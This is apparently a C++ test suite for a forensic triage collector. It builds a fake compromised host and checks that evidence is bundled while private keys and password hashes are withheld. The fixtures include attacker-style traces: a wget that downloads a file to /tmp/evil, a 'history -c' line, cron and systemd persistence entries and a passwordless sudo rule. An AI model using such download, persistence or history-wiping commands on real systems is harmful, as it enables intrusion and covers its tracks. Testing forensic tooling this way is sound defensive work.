// The artefact table run against a fake root tree built here: logs (rotated, gzip with two
// members, RFC 3339 and year-less syslog lines), login records, accounts, shadow, sudoers, cron,
// units, users' ~/.ssh with real private keys (ssh-keygen, openssl), histories, /tmp with ELF and
// script files, a FIFO, a link, a proxy file. GNU tar, sha256sum and verify_bundle judge the
// bundle; no byte of any private key or password hash may be in it.
#include "collector/artifacts.h"
#include "host/logins.h"

#include <sys/stat.h>
#include <unistd.h>
#include <utime.h>
#include <utmp.h>

#include <cstring>
#include <map>
#include <random>
#include <set>

#include <gtest/gtest.h>

#include "../bundle/test_util.h"
#include "bundle/verify.h"
#include "bundle/writer.h"
#include "common/error.h"
#include "common/hash.h"
#include "common/strings.h"

namespace forage::collector {
using namespace forage::host;
namespace {

using bundle::test::run;
using bundle::test::slurp;
using bundle::test::spit;
using bundle::test::TempDir;
using Json = nlohmann::json;

void put(const std::string& path, const std::string& data) {
  run("mkdir -p '" + path.substr(0, path.rfind('/')) + "'");
  spit(path, data);
}

void set_mtime(const std::string& path, const std::string& when) {
  ASSERT_EQ(run("touch -d '" + when + "' '" + path + "'"), 0);
}

std::string utmp_rec(short type, const char* user, const char* host, uint32_t t) {
  struct utmp u;
  std::memset(&u, 0, sizeof u);
  u.ut_type = type;
  std::strncpy(u.ut_user, user, sizeof u.ut_user);
  std::strncpy(u.ut_host, host, sizeof u.ut_host);
  std::strncpy(u.ut_line, "pts/0", sizeof u.ut_line);
  u.ut_tv.tv_sec = static_cast<int32_t>(t);
  return std::string(reinterpret_cast<const char*>(&u), sizeof u);
}

struct FakeHost {
  TempDir t;
  std::string root;
  std::set<std::string> key_lines;  // base64 lines of every private key planted
  std::string error;

  std::string r(const std::string& p) const { return root + p; }

  void remember_key(const std::string& path) {
    const std::string text = slurp(path);
    auto lines = split_lines(text);
    for (size_t i = 1; i + 2 < lines.size(); ++i) key_lines.insert(std::string(lines[i]));
    ASSERT_GE(key_lines.size(), 1u) << path;
  }

  bool build() {
    root = t / "root";
    ::chmod(t.path().c_str(), 0755);  // homes are opened as their users: the way there is open
    put(r("/etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
        "bob:x:1001:1001::/home/bob:/bin/sh\nnobody:x:65534:65534::/nonexistent:/bin/false\n"
        "broken line without fields\n");
    put(r("/etc/group"), "root:x:0:\nalice:x:1000:\n");
    put(r("/etc/shadow"),
        "root:$6$saltsalt$ROOTSECRETHASHROOTSECRETHASH:19000:0:99999:7:::\n"
        "alice:$y$j9T$salt$ALICESECRETHASH:20000:0:99999:7::20500:\n"
        "bob:!$6$x$BOBSECRETHASH:19500::::::\nnobody:*:19000:0:99999:7:::\n");
    put(r("/etc/sudoers"), "root ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n");
    put(r("/etc/sudoers.d/alice"), "alice ALL=(ALL) NOPASSWD: ALL\n");
    put(r("/etc/crontab"), "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
    put(r("/etc/cron.d/evil"), "* * * * * root /dev/shm/payload\n");
    put(r("/var/spool/cron/crontabs/alice"), "@reboot /tmp/run.sh\n");
    put(r("/etc/systemd/system/evil.service"), "[Service]\nExecStart=/tmp/evil\n");
    put(r("/etc/systemd/system/evil.timer"), "[Timer]\nOnBootSec=1\n");
    run("mkdir -p " + r("/etc/systemd/system/timers.target.wants"));
    ::symlink("../evil.timer", r("/etc/systemd/system/timers.target.wants/evil.timer").c_str());
    put(r("/etc/ssh/sshd_config"), "PermitRootLogin no\n");
    run("mkdir -p " + r("/home/alice/.ssh") + " " + r("/home/bob/.ssh") + " " + r("/root"));
    if (run("ssh-keygen -q -t ed25519 -N '' -f " + r("/etc/ssh/ssh_host_ed25519_key"), &error) ||
        run("ssh-keygen -q -t ed25519 -N '' -C alice@laptop -f " + r("/home/alice/.ssh/id_ed25519"),
            &error) ||
        run("openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:1024 -out " +
                r("/home/bob/.ssh/stolen.pem"),
            &error))
      return false;
    remember_key(r("/etc/ssh/ssh_host_ed25519_key"));
    remember_key(r("/home/alice/.ssh/id_ed25519"));
    remember_key(r("/home/bob/.ssh/stolen.pem"));
    put(r("/home/alice/.ssh/authorized_keys"), slurp(r("/home/alice/.ssh/id_ed25519.pub")));
    put(r("/home/alice/.ssh/known_hosts"), "gw.example.org ssh-ed25519 AAAAC3Nza\n");
    put(r("/home/bob/.ssh/config"), "Host *\n  ForwardAgent yes\n");
    put(r("/home/alice/.bash_history"), "wget http://203.0.113.9/x -O /tmp/evil\n");
    put(r("/root/.bash_history"), "history -c\n");

    // auth logs: RFC 3339 (current), year-less syslog across a new year, and an old gzip file
    // made of two gzip members.
    put(r("/var/log/auth.log"),
        "2026-11-20T10:15:00.123456+01:00 wn01 sshd[4]: Accepted password for bob from "
        "2001:db8::5 port 2222 ssh2\n"
        "2026-11-22T00:00:00.000000+00:00 wn01 CRON[5]: pam_unix(cron:session): opened\n");
    put(r("/var/log/auth.log.1"),
        "Dec 30 23:59:59 wn01 sshd[1]: Accepted publickey for alice from 198.51.100.7 port "
        "5555 ssh2\n"
        "Jan  2 10:00:00 wn01 sshd[2]: Failed password for invalid user admin from "
        "203.0.113.9 port 22 ssh2\n"
        "Jan  3 10:00:00 wn01 sudo: alice : TTY=pts/0 ; COMMAND=/bin/sh\n");
    set_mtime(r("/var/log/auth.log.1"), "2026-01-05 00:00:00 UTC");
    put(t / "a", "Mar  1 08:00:00 wn01 sshd[3]: Connection closed by 192.0.2.1 port 1\n");
    put(t / "b", "Mar  2 08:00:00 wn01 sshd[3]: Disconnected from 192.0.2.2 port 1\n");
    if (run("(gzip -c " + (t / "a") + "; gzip -c " + (t / "b") + ") > " +
            r("/var/log/auth.log.2.gz")))
      return false;
    set_mtime(r("/var/log/auth.log.2.gz"), "2025-03-10 00:00:00 UTC");
    put(r("/var/log/syslog"), "Nov 23 10:00:00 wn01 kernel: hello\n");
    put(r("/var/log/journal/0123abcd/system.journal"), std::string("LPKSHHRH\0\0\0", 11));
    put(r("/var/log/wtmp"), utmp_rec(USER_PROCESS, "alice", "198.51.100.7", 1767139199) +
                                utmp_rec(DEAD_PROCESS, "", "", 1767140000) + "cut");
    put(r("/var/log/btmp"), utmp_rec(LOGIN_PROCESS, "admin", "203.0.113.9", 1767348000));
    put(r("/var/log/lastlog"), std::string(292 * 1000, '\0'));
    put(r("/var/log/other.log"), "only in the full profile\n");
    ::mkfifo(r("/var/log/fifo").c_str(), 0600);

    // /tmp, /var/tmp, /dev/shm and a target's cwd.
    put(r("/tmp/evil"), slurp("/bin/true"));
    put(r("/tmp/run.sh"), "#!/bin/sh\nexec /tmp/evil\n");
    put(r("/tmp/notes.txt"), "just text\n");
    put(r("/tmp/sub/deep.sh"), "#!/bin/bash\necho deep\n");
    put(r("/tmp/x509up_u1000"), "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n" +
                                    slurp(r("/home/bob/.ssh/stolen.pem")));
    ::mkfifo(r("/tmp/fifo").c_str(), 0600);
    ::symlink("/etc/shadow", r("/tmp/link").c_str());
    put(r("/var/tmp/big.elf"), std::string("\x7f"
                                           "ELF",
                                           4) +
                                   std::string(200000, 'x'));
    put(r("/dev/shm/payload"), std::string("\x7f"
                                           "ELF\x02\x01\x01",
                                           7) +
                                   std::string(100, '\0'));
    put(r("/work/job.sh"), "#!/bin/sh\nsleep 1000\n");
    // Homes belong to their users (they are read with their rights).
    if (::geteuid() == 0 &&
        run("chown -R 1000:1000 " + r("/home/alice") + " && chown -R 1001:1001 " + r("/home/bob")))
      return false;
    return true;
  }
};

bundle::WriterOptions options(const std::string& out) {
  bundle::WriterOptions o;
  o.out = out;
  o.case_id = "CASE-ART";
  o.host = "wn01";
  o.unsigned_ok = true;
  return o;
}

std::string top_of(const std::string& dir) {
  std::string out;
  run("ls " + dir, &out);
  return dir + "/" + std::string(trim(out));
}

TEST(ArtifactTable, NamesAreUniqueAndTheTextListsEveryRow) {
  std::set<std::string> names;
  std::string text = artifact_table_text();
  for (const auto& s : artifact_table()) {
    EXPECT_TRUE(names.insert(s.name).second) << s.name;
    EXPECT_FALSE(s.paths.empty()) << s.name;
    EXPECT_TRUE(s.bag_dir == "data/logs" || s.bag_dir == "data/host") << s.name;
    EXPECT_NE(text.find(s.name + "  ["), std::string::npos) << s.name;
    for (const auto& p : s.paths) {
      EXPECT_TRUE(p[0] == '/' || p.rfind("~/", 0) == 0) << p;
      EXPECT_NE(text.find(p), std::string::npos) << p;
    }
  }
  for (const char* n : {"auth-logs", "journal", "wtmp", "btmp", "lastlog", "shadow", "sudoers",
                        "cron", "systemd-units", "user-ssh", "shell-history", "tmp-listings"})
    EXPECT_TRUE(names.count(n)) << n;
}

TEST(SshReach, RfcAndSyslogTimesWithTheYearFromTheMtime) {
  // mtime 2026-01-05: "Dec 30" is 2025, "Jan  2" is 2026.
  std::time_t mtime = 1767571200;  // 2026-01-05T00:00:00Z
  std::time_t now = 1795392000;    // 2026-11-23T00:00:00Z
  SshLogReach r = ssh_reach_of_text(
      "Dec 30 23:59:59 h sshd[1]: Accepted publickey for alice from 198.51.100.7 port 1 ssh2\n"
      "Jan  2 10:00:00 h sshd[2]: Failed password for root from 203.0.113.9 port 2 ssh2\n"
      "Jan  4 10:00:00 h CRON[3]: not sshd\n",
      mtime, "auth.log.1", now);
  EXPECT_EQ(r.oldest, "2025-12-30T23:59:59Z");
  EXPECT_EQ(r.newest, "2026-01-02T10:00:00Z");
  EXPECT_EQ(r.lines, 2u);
  EXPECT_NE(r.note.find("mtime"), std::string::npos);
  EXPECT_NEAR(r.days, 327.0, 0.1);
  EXPECT_FALSE(r.sec01_six_months == false && r.days < 182);
  EXPECT_TRUE(r.sec01_six_months);
  EXPECT_EQ(r.remote_ips, (std::vector<std::string>{"198.51.100.7", "203.0.113.9"}));
  EXPECT_EQ(r.accepted, std::vector<std::string>{"alice from 198.51.100.7"});

  SshLogReach z = ssh_reach_of_text(
      "2026-11-20T10:15:00.5-02:30 h sshd[4]: Accepted password for bob from 2001:db8::5 port 2\n"
      "2026-11-21T00:00:00Z h sshd-session[5]: Connection closed by 192.0.2.1 port 22\n",
      0, "auth.log", now);
  EXPECT_EQ(z.oldest, "2026-11-20T12:45:00Z");
  EXPECT_EQ(z.newest, "2026-11-21T00:00:00Z");
  EXPECT_EQ(z.note, "");
  EXPECT_FALSE(z.sec01_six_months);
  EXPECT_EQ(z.accepted, std::vector<std::string>{"bob from 2001:db8::5"});

  SshLogReach none = ssh_reach_of_text("no sshd here\n", 0, "x", now);
  EXPECT_EQ(none.oldest, "");
  EXPECT_FALSE(none.sec01_six_months);
}

TEST(SshReach, HostileTextNeverCrashes) {
  std::mt19937 rng(5);
  const std::string pieces[] = {"Jan",     " 1",    "12:", "00",     " sshd[", "] from ",
                                "1.2.3.4", "2026-", "T",   "+01:00", "Z",      "\n",
                                "\0",      "\xff",  ":",   " "};
  for (int i = 0; i < 3000; ++i) {
    std::string s;
    int n = static_cast<int>(rng() % 40);
    for (int k = 0; k < n; ++k) s += pieces[rng() % std::size(pieces)];
    EXPECT_NO_THROW(ssh_reach_of_text(s, static_cast<std::time_t>(rng()), "fuzz").to_json().dump());
  }
  // Found by libFuzzer: a NUL inside the address token once ended up in the JSON.
  SshLogReach nul = ssh_reach_of_text(
      std::string("Nov 20 10:00:00 h sshd[1]: x from 2001:db8::5\0\xff\xfe port 1\n", 56), 0,
      "nul");
  EXPECT_EQ(nul.remote_ips, std::vector<std::string>{"2001:db8::5"});
  EXPECT_NO_THROW(nul.to_json().dump());
  std::string long_line(200000, 'a');
  EXPECT_EQ(ssh_reach_of_text(long_line, 0, "long").lines, 0u);
}

TEST(CollectArtifacts, TriageOnAFakeRootTakesTheTableAndNoSecret) {
  FakeHost h;
  ASSERT_TRUE(h.build()) << h.error;
  std::string out = h.r("/tmp/bundle.tar");  // the bundle lives in a listed directory
  ArtifactReport rep;
  {
    bundle::BundleWriter w(options(out));
    ArtifactOptions opt;
    opt.executable_cap = 100000;
    CwdListing work, relative;
    work.dir = "/work";
    work.who = host::Identity::root();
    relative.dir = "relative/ignored";
    rep = collect_artifacts(w, Profile::kTriage, {work, relative}, h.root, opt);
    w.finish();
  }
  bundle::VerifyOptions vo;
  vo.allow_unsigned = true;
  auto v = bundle::verify_bundle(out, vo);
  EXPECT_TRUE(v.valid()) << (v.problems.empty() ? "" : v.problems.front());

  std::string x = h.t / "x";
  ASSERT_EQ(run("mkdir " + x + " && tar -xf " + out + " -C " + x), 0);
  std::string top = top_of(x);
  std::string check;
  EXPECT_EQ(run("cd " + top + " && sha256sum -c --quiet manifest-sha256.txt", &check), 0) << check;
  auto has = [&](const std::string& p) { return ::access((top + "/" + p).c_str(), F_OK) == 0; };

  // Logs, as they are (the gzip file byte for byte).
  for (const char* p :
       {"data/logs/auth.log", "data/logs/auth.log.1", "data/logs/auth.log.2.gz", "data/logs/syslog",
        "data/logs/journal/0123abcd/system.journal", "data/logs/wtmp", "data/logs/wtmp.json",
        "data/logs/btmp.json", "data/logs/lastlog", "data/logs/lastlog.json"})
    EXPECT_TRUE(has(p)) << p;
  EXPECT_EQ(slurp(top + "/data/logs/auth.log.2.gz"), slurp(h.r("/var/log/auth.log.2.gz")));
  EXPECT_FALSE(has("data/logs/other.log"));
  auto wtmp = Json::parse(slurp(top + "/data/logs/wtmp.json"));
  EXPECT_EQ(wtmp["record_count"], 2);
  EXPECT_EQ(wtmp["trailing_bytes"], 3);
  EXPECT_EQ(wtmp["records"][0]["user"], "alice");
  EXPECT_EQ(rep.login_users, std::vector<std::string>{"alice"});
  EXPECT_EQ(rep.login_hosts, (std::vector<std::string>{"198.51.100.7", "203.0.113.9"}));

  // SSH log reach over the three files, gzip members included.
  EXPECT_EQ(rep.ssh_logs.oldest, "2025-03-01T08:00:00Z");
  EXPECT_EQ(rep.ssh_logs.newest, "2026-11-20T09:15:00Z");
  EXPECT_TRUE(rep.ssh_logs.sec01_six_months);
  EXPECT_EQ(rep.ssh_logs.lines, 5u);
  EXPECT_EQ(rep.ssh_logs.files.size(), 3u);
  EXPECT_EQ(rep.ssh_logs.journal_files.size(), 1u);
  EXPECT_NE(rep.ssh_logs.note.find("mtime"), std::string::npos);
  EXPECT_EQ(rep.ssh_logs.accepted,
            (std::vector<std::string>{"bob from 2001:db8::5", "alice from 198.51.100.7"}));

  // Accounts, privileges, persistence.
  for (const char* p :
       {"data/host/etc/passwd", "data/host/etc/group", "data/host/etc/sudoers",
        "data/host/etc/sudoers.d/alice", "data/host/etc/crontab", "data/host/etc/cron.d/evil",
        "data/host/var/spool/cron/crontabs/alice", "data/host/etc/systemd/system/evil.service",
        "data/host/etc/systemd/system/evil.timer", "data/host/etc/ssh/sshd_config",
        "data/host/etc/ssh/ssh_host_ed25519_key.pub", "data/host/home/alice/.ssh/authorized_keys",
        "data/host/home/alice/.ssh/known_hosts", "data/host/home/alice/.ssh/id_ed25519.pub",
        "data/host/home/bob/.ssh/config", "data/host/home/alice/.bash_history",
        "data/host/root/.bash_history", "data/host/etc/shadow.metadata.json",
        "data/host/artifacts.json"})
    EXPECT_TRUE(has(p)) << p;
  EXPECT_FALSE(has("data/host/etc/systemd/system/timers.target.wants/evil.timer"));
  EXPECT_FALSE(has("data/host/etc/shadow"));
  auto shadow = Json::parse(slurp(top + "/data/host/etc/shadow.metadata.json"));
  ASSERT_EQ(shadow["accounts"].size(), 4u);
  EXPECT_EQ(shadow["accounts"][1]["user"], "alice");
  EXPECT_EQ(shadow["accounts"][1]["password"], "set");
  EXPECT_EQ(shadow["accounts"][1]["algorithm"], "yescrypt");
  EXPECT_EQ(shadow["accounts"][1]["last_change"], "2024-10-04");
  EXPECT_EQ(shadow["accounts"][2]["password"], "locked");
  EXPECT_EQ(shadow["accounts"][3]["password"], "no password (login disabled)");

  // Private keys: hashed, never copied.
  for (const char* p :
       {"data/host/etc/ssh/ssh_host_ed25519_key", "data/host/home/alice/.ssh/id_ed25519",
        "data/host/home/bob/.ssh/stolen.pem", "data/host/files/tmp/x509up_u1000"})
    EXPECT_FALSE(has(p)) << p;
  std::set<std::string> keys(rep.private_keys.begin(), rep.private_keys.end());
  EXPECT_EQ(keys,
            (std::set<std::string>{"/etc/ssh/ssh_host_ed25519_key", "/home/alice/.ssh/id_ed25519",
                                   "/home/bob/.ssh/stolen.pem", "/tmp/x509up_u1000"}));
  EXPECT_EQ(rep.hashed_only, 4u);
  auto art = Json::parse(slurp(top + "/data/host/artifacts.json"));
  ASSERT_EQ(art["links"].size(), 1u);
  EXPECT_EQ(art["links"][0]["path"], "/etc/systemd/system/timers.target.wants/evil.timer");
  EXPECT_EQ(art["links"][0]["target"], "../evil.timer");
  bool key_hash_ok = false;
  for (const auto& k : art["private_keys"])
    if (k["path"] == "/home/alice/.ssh/id_ed25519")
      key_hash_ok = k["sha256"] == sha256_hex(slurp(h.r("/home/alice/.ssh/id_ed25519")));
  EXPECT_TRUE(key_hash_ok);
  std::string found;
  run("grep -rl -e 'BEGIN [A-Z ]*PRIVATE KEY' -e SECRETHASH " + x, &found);
  EXPECT_EQ(found, "");
  for (const auto& line : h.key_lines) {
    std::string hit;
    run("grep -rlF -e '" + line + "' " + x, &hit);
    EXPECT_EQ(hit, "") << "key material " << line;
  }

  // Listings: hashes, types; small executables copied, others not; FIFO, link and the bundle
  // itself listed, never read.
  for (const char* p :
       {"data/host/files/tmp/evil", "data/host/files/tmp/run.sh", "data/host/files/tmp/sub/deep.sh",
        "data/host/files/dev/shm/payload", "data/host/files/work/job.sh",
        "data/host/listings/tmp.jsonl", "data/host/listings/var_tmp.jsonl",
        "data/host/listings/dev_shm.jsonl", "data/host/listings/work.jsonl"})
    EXPECT_TRUE(has(p)) << p;
  EXPECT_FALSE(has("data/host/files/tmp/notes.txt"));
  EXPECT_FALSE(has("data/host/files/var/tmp/big.elf"));  // over the 100000-byte cap
  std::map<std::string, Json> listed;
  const std::string listing = slurp(top + "/data/host/listings/tmp.jsonl");
  for (std::string_view line : split_lines(listing))
    if (!line.empty()) {
      auto j = Json::parse(line);
      listed[j["path"].get<std::string>().substr(h.root.size())] = j;
    }
  ASSERT_TRUE(listed.count("/tmp/evil"));
  EXPECT_EQ(listed["/tmp/evil"]["sha256"], sha256_hex(slurp("/bin/true")));
  EXPECT_NE(listed["/tmp/evil"]["magic"].get<std::string>().find("ELF"), std::string::npos);
  EXPECT_EQ(listed["/tmp/evil"]["copied_to"], "data/host/files/tmp/evil");
  EXPECT_EQ(listed["/tmp/fifo"]["type"], "fifo");
  EXPECT_EQ(listed["/tmp/link"]["type"], "symlink");
  EXPECT_EQ(listed["/tmp/link"]["link"], "/etc/shadow");
  EXPECT_EQ(listed["/tmp/x509up_u1000"]["private_key"], true);
  EXPECT_EQ(listed["/tmp/sub"]["type"], "directory");
  EXPECT_EQ(listed["/tmp/bundle.tar.partial"]["note"], "the bundle being written");
  EXPECT_FALSE(listed["/tmp/bundle.tar.partial"].contains("sha256"));
  EXPECT_EQ(slurp(top + "/data/host/files/tmp/evil"), slurp("/bin/true"));
  EXPECT_GE(rep.listed, 10u);

  std::string log = slurp(top + "/meta/actions.jsonl");
  EXPECT_NE(log.find("artifacts.ssh-log-reach"), std::string::npos);
  EXPECT_NE(log.find("symbolic link to '../evil.timer', not followed"), std::string::npos);
}

TEST(CollectArtifacts, FullAddsTheWholeLogTreeOnceAndProcessTakesNothing) {
  FakeHost h;
  ASSERT_TRUE(h.build()) << h.error;
  std::string out = h.t / "full.tar";
  ArtifactReport full;
  {
    bundle::BundleWriter w(options(out));
    full = collect_artifacts(w, Profile::kFull, {}, h.root + "/");
    w.finish();
  }
  std::string names;
  ASSERT_EQ(run("tar -tf " + out, &names), 0);
  EXPECT_NE(names.find("/data/logs/other.log\n"), std::string::npos);
  EXPECT_EQ(names.find("/data/logs/auth.log~2"), std::string::npos);  // taken once
  EXPECT_EQ(names.find("/data/logs/fifo"), std::string::npos);
  EXPECT_GT(full.skipped, 0u);

  std::string out2 = h.t / "proc.tar";
  bundle::BundleWriter w(options(out2));
  CwdListing work;
  work.dir = "/work";
  ArtifactReport none = collect_artifacts(w, Profile::kProcess, {work}, h.root);
  w.finish();
  EXPECT_EQ(none.files_copied, 0u);
  EXPECT_EQ(none.listed, 0u);
  EXPECT_EQ(w.payload_files(), 0u);
}

TEST(CollectArtifacts, ARootWithoutPasswdStillWorks) {
  TempDir t;
  put(t / "root/var/log/auth.log", "garbage\n\0\xff\n");
  std::string out = t / "b.tar";
  bundle::BundleWriter w(options(out));
  ArtifactReport r = collect_artifacts(w, Profile::kTriage, {}, t / "root");
  w.finish();
  EXPECT_EQ(r.files_copied, 1u);
  ASSERT_FALSE(r.errors.empty());
  EXPECT_NE(r.errors[0].find("passwd"), std::string::npos);
  EXPECT_EQ(r.ssh_logs.oldest, "");
  EXPECT_FALSE(r.ssh_logs.sec01_six_months);
}

}  // namespace
}  // namespace forage::collector

namespace forage::collector {
namespace {

// /dev/shm full of sparse "ELF" files (issue 11.5): the listing hashes each over its head only,
// copies what the total budget allows, newest first, and lists every other one as over budget.
TEST(CollectArtifacts, SparseExecutablesAreListedNotCopiedPastTheBudget) {
  TempDir t;
  std::string shm = t / "root/dev/shm";
  ASSERT_EQ(run("mkdir -p " + shm), 0);
  const int n = 400;
  for (int i = 0; i < n; ++i) {
    std::string f = shm + "/p" + std::to_string(i);
    spit(f, std::string("\x7f" "ELF\x02\x01\x01", 7));
    ASSERT_EQ(::truncate(f.c_str(), 2 << 20), 0);
  }
  std::string out = t / "b.tar";
  ArtifactReport r;
  {
    bundle::BundleWriter w(options(out));
    ArtifactOptions opt;
    opt.max_total = 4 << 20;  // room for two of them
    r = collect_artifacts(w, Profile::kTriage, {}, t / "root", opt);
    w.finish();
  }
  EXPECT_EQ(r.files_copied, 2u);
  EXPECT_EQ(r.over_budget, static_cast<uint64_t>(n - 2));
  std::string x = t / "x";
  ASSERT_EQ(run("mkdir " + x + " && tar -xf " + out + " -C " + x), 0);
  std::string top = top_of(x);
  int listed = 0, head_only = 0;
  const std::string listing = slurp(top + "/data/host/listings/dev_shm.jsonl");
  for (std::string_view line : split_lines(listing)) {
    if (line.empty()) continue;
    auto j = Json::parse(line);
    ++listed;
    if (j.contains("sha256_head") && j.value("sha256_note", "").find("sparse") == 0) ++head_only;
  }
  EXPECT_EQ(listed, n);
  EXPECT_EQ(head_only, n);
  int over = 0;
  const std::string over_text = slurp(top + "/data/host/over-budget.jsonl");
  for (std::string_view line : split_lines(over_text))
    if (!line.empty() && Json::parse(line)["step"] == "tmp-listings") ++over;
  EXPECT_EQ(over, n - 2);
}

}  // namespace
}  // namespace forage::collector
